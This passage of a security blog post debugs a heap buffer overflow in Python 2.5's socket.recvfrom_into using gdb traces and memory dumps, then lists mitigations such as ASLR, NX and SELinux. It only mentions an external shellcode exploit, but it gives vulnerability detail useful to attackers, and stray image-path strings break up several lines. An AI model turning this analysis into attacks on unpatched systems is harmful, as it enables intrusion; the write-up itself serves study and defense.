0x0011613c <+186>: mov eax,DWORD PTR [eax]
0x0011613e <+188>: lea edx,[ebx-0x2864]
0x00116144 <+194>: mov DWORD PTR [esp+0x4],edx
0x00116148 <+198>: mov DWORD PTR [esp],eax
0x0011614b <+201>:call 0x1134b4 <PyErr_SetString@plt>2746 “nbytes is greater than the length of the buffer”);
2747 goto error;
0x00116150 <+206>: jmp 0x1161ac <sock_recvfrom_into+298>

As we can see – unlike the case of Python 2.5 in this version, the recvlen (number of bytes to read) is actually compared with buflen (size of the buffer). If recvlen is greater than the buflen an error is raised and the program exits (relatively) gracefully with an appropriate error message (at least for a Python developer if not an end user of a Python application).

(gdb) continue
Traceback (most recent call last):
File “./scripts/exploit/”, line 16, in<module>
s.recvfrom_into(buf, 1024)
ValueError: nbytes is greater than the length of the buffer
Program exited with code 01.

Understanding the crash

A quick look at the memory allocation of Python is helpful here for this discussion (taken from the documentation in obmalloc.c file from the Python 2.5 source code).


When we revisit Test-2 we notice that Python script did complete post which a segmentation fault was thrown. Intermittently, the register values being pointed to especially the esp register was not corrupted.

(gdb) x/8xw $ebp
0xbffff268: 0xbffff298 0x08109802 0xb7faf800 0xb7f97c6c
0xbffff278: 0x00000000 0x080833e3 0xb7f97ecc 0x0011536e
(gdb) finish
Run till exit from #0 0x0805700e in Py_Main (argc=2, argv=0xbffff7b4) at Modules/main.c:496
Program received signal SIGSEGV, Segmentation fault.
0x080e65f9 in visit_decref (op=0x81a10e0, data=0x0) at Modules/gcmodule.c:270
270 if (PyObject_IS_GC(op)) {
(gdb) x/8xw $ebp
0xbffff4d8: 0xbffff518 0x080804db 0x081a10e0 0x00000000
0xbffff4e8: 0xbffff500 0xbffff4fc 0x00000000 0x00000000In fact the segmentation fault points to visit_decref with one of the parameters pointing to an address space “0x81a10e0”. To understand this, I backtracked the execution,

(gdb) bt
#0 0x080e65f9 in visit_decref (op=0x81a10e0, data=0x0) at Modules/gcmodule.c:270
#1 0x080804db in dict_traverse (op=0xb7f6868c, visit=0x80e65ed <visit_decref>, arg=0x0) at Objects/dictobject.c:1825
#2 0x080e6693 in subtract_refs (containers=0x8151d48) at Modules/gcmodule.c:295
#3 0x080e6fa8 in collect (generation=2) at Modules/gcmodule.c:790
#4 0x080e7958 in PyGC_Collect () at Modules/gcmodule.c:1264
#5 0x080db37d in Py_Finalize () at Python/pythonrun.c:381
#6 0x080570a7 in Py_Main (argc=2, argv=0xbffff7b4) at Modules/main.c:516
#7 0x0805641f in main (argc=2, argv=0xbffff7b4) at ./Modules/python.c:23

Turns out visit_decref, is an method in Python’s garbage collection module (see Modules/gcmodule.c:295 in bt output above). Garbage Collection is used on interpreters like JVM and Python to clean up memory allocated on the heap. Since the array used as the buffer for the Python script was allocated on the Heap not on the stack – it was essentially a Heap-Buffer-Overflow and NOT a Stack-Overflow.

To understand the crash I further investigated the memory location 0x81a10e0 (the address passed into that GC that caused a crash) and the memory surrounding it,

Before the overflow,

(gdb) x/1xw *(0x81a10e0+4)
0x8142000 <PyString_Type>: 0x00000042

After the overflow,

(gdb) x/s 0x81a10e0+4
0x81a10e4: “01234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789”…
(gdb)x/s 0x81a10e0+100 0x81a1144: “67890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345”…
(gdb) x/s 0x81a10e0+1000
0x81a14c8: “67890123 of the preceding RE.\n *?,+?,?? Non-greedy versions of the previous three special characters.\n {m,n} Matches from m to n repetitions of the preceding RE.\n {m,n}? Non-greedy versi”…(gdb) x/s 0x81a10e0+1020
0x81a14dc: “eding RE.\n *?,+?,?? Non-greedy versions of the previous three special characters.\n {m,n} Matches from m to n repetitions of the preceding RE.\n {m,n}? Non-greedy version of the above.\n “…

In the above outputs we notice that the before the overflow this memory location was utilized by some Object – after the point in the code where the overflow was expected a part of the numbers in the test file largeDataFile.txt have proliferated – and they continue – and at one point we see a string that was not in the largeDataFile.txt file! See output for (gdb) x/s 0x81a10e0+1000 the numbers end and some other legitimate text start!

On performing a quick code search we can see this text possibly comes from Python-2.5/Lib/ file which is the “Secret Labs’ Regular Expression Engine” that ships with the Python Interpreter. So what we see here is a Heap Corruption. Coming back to the point of failure – visit_decref which when tries to release memory at 0x81a10e0, fails because the data from largeDataFile.txt corrupted the original object and some more data around it.

While Heap-Buffer-Overflows do pose an additional challenges in terms of changing the flow of the executing code whencompared to Stack-Overflow – this attack is still possible.

Also this Heap-Overflow is because the array allocates on the Heap and does not have anything to do with the Socket that overflows (irrespective of where the memory for the buffer is allocated – stack or heap).

Exploitation Example

Exploit-DB has an example that actually sends a shell code as an exploit –

Putting this to use of Defensive Security

Some proponents of the defensive security have started using this exploit to write their custom Honey-Pots! One such example has it’s source code available on GitHub –

Possible defenses besides code fix in the interpreter

Assuming that the defect in question was 0-day and a fix was not in sight or a fix was available but upgrading to the new version was not a choice due to technical compatibility or other reasons, there are still some solutions available.

The solutions can be categorized as (some adapted from Computer Security – Principles and Practices;William Stalling),

  • Compile-Time
  • Runtime

A. Compile-Time

Since Python is an open-sourced project it is fair to say compiling the Python source is an option. “Stackguard” (available as a GCC Compiler Extension) can be used – which introduces a “canary” below the old stack frame. The function exit code checks for the canary – if the canary has been modified – the program aborts instead of taking hacked routes. This is effective in case of a Stack-Buffer-Overflow.

B. Runtime

  • Using processors with MMU support to mark memory addresses as “no execute” can be effective in preventing execution of injected code on buffers.
  • Address space randomization (stack) and Random Dynamic Memory Allocation in malloc() (heap) can make buffer-overflows that rely of exact memory address more difficult to pull through.
  • Randomization of loading of Standard Library Addresses in memory is similar to the above but protects the standard library.
  • Guard Pages between Critical memory regions could protect against Buffer-Overflow against Global Variables.
  • SELinux Profile – Assuming a Python based web server is being used – it would certainly evoke genuine concern in the light of this vulnerability. Some web servers do have SELinux profiles like Apache Web server (assuming mod_python is being used within Apache). While SELinux cannot prevent a buffer-overflow – it can certainly contain its impact – like the WebServer and contained processes can only access say “/var/www/html” and some script directories.
  • Jails – Can provide rudimentary isolation, however if privileges are escalatedit is trivial for the hacker to break out of the Jail.
  • Least Privileges Policy, ensures that if the system is compromised it does not automatically translate to complete system high-jack! So simple rules like no “w”rite access to “o”thers on any server can go a long way in the face of an attack, in terms of reducing the impact.


To conclude, buffer-overflow remains one of the top attack for decades now, however, what ismore challenging is that increasingly new breed of developers who will probably never work with a compiler and would be writing scripts that could cause a buffer-overflow. It is more difficult to understand the gravity of an overflow by a Python, Java or JavaScript developer, compared to a C, or Assembly programmer.

This was paper was an attempt to highlight one of the many in the increasing trend of buffer-overflow bugs being found in interpreters like Python (and Java Virtual Machine) and demonstrate how a supposedly innocent script could cause a memory overflow leading to exposure of an critical attack vector.


Leave a ReplyFill in your details below or click an icon to log in: Logo

You are commenting using your account. Log Out /  Change )

Google+ photo

You are commenting using your Google+ account. Log Out /  Change )

Twitter picture

You are commenting using your Twitteraccount. Log Out /  Change )

Facebook photo

You are commenting using yourFacebook account. Log Out /  Change)


Connecting to %s